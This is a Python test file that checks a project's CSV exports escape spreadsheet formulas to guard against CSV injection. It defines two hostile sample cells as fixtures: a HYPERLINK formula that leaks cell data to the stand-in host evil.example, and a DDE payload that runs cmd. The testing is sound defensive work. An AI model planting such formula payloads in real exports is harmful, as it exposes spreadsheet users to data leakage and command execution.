"""Every CSV the project writes is safe to open in a spreadsheet (OWASP "CSV injection")."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from click.testing import CliRunner
from sqlalchemy.orm import Session

from maskscreen.cli.main import cli
from maskscreen.cli.output import csv_cell
from maskscreen.db import open_database, store
from tests.db.factories import make_listing, make_verdict

FORMULA_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
FORMULA_SELLER = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("plain title", "plain title"),
        ("a=b", "a=b"),
        (-5, "-5"),  # a number is not a formula
        (Decimal("-1.50"), "-1.50"),
        (None, ""),
    ],
)
def test_csv_cell_neutralises_what_a_spreadsheet_would_run(value, cell):
    assert csv_cell(value) == cell


def test_csv_cell_raw_keeps_the_text_as_stored():
    assert csv_cell("=1+1", raw=True) == "=1+1"


@pytest.fixture
def hostile(tmp_path):
    url = f"sqlite:///{tmp_path / 'csv.sqlite'}"
    engine = open_database(url)
    with Session(engine) as session, session.begin():
        site = store.get_or_create_site(session, "shop")
        [row] = store.upsert_listings(
            session, site, [make_listing(1, title=FORMULA_TITLE, seller=FORMULA_SELLER)]
        )
        store.record_classifications(session, [(row.version_id, make_verdict())])
    engine.dispose()
    return url


def _rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize(
    "args",
    [
        ["export", "--format", "csv"],
        ["flagged", "--csv"],
        ["review", "list", "--csv"],
    ],
)
def test_csv_outputs_neutralise_formulas_and_raw_keeps_them(hostile, args):
    guarded = CliRunner().invoke(cli, [*args, "--db", hostile])
    assert guarded.exit_code == 0, guarded.output
    cells = [cell for row in _rows(guarded.stdout) for cell in row.values()]
    assert "'" + FORMULA_TITLE in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)

    raw = CliRunner().invoke(cli, [*args, "--raw", "--db", hostile])
    assert raw.exit_code == 0, raw.output
    assert FORMULA_TITLE in [cell for row in _rows(raw.stdout) for cell in row.values()]


def test_flagged_says_when_there_are_more_rows_than_shown(hostile):
    result = CliRunner().invoke(cli, ["flagged", "--limit", "1", "--db", hostile])
    assert result.exit_code == 0, result.output
    assert "there are more" not in result.stderr  # one flagged listing, limit 1
    with Session(open_database(hostile)) as session, session.begin():
        site = store.get_or_create_site(session, "shop")
        [row] = store.upsert_listings(session, site, [make_listing(2)])
        store.record_classifications(session, [(row.version_id, make_verdict())])
    result = CliRunner().invoke(cli, ["flagged", "--limit", "1", "--db", hostile])
    assert result.exit_code == 0, result.output
    assert "showing the newest 1; there are more" in result.stderr
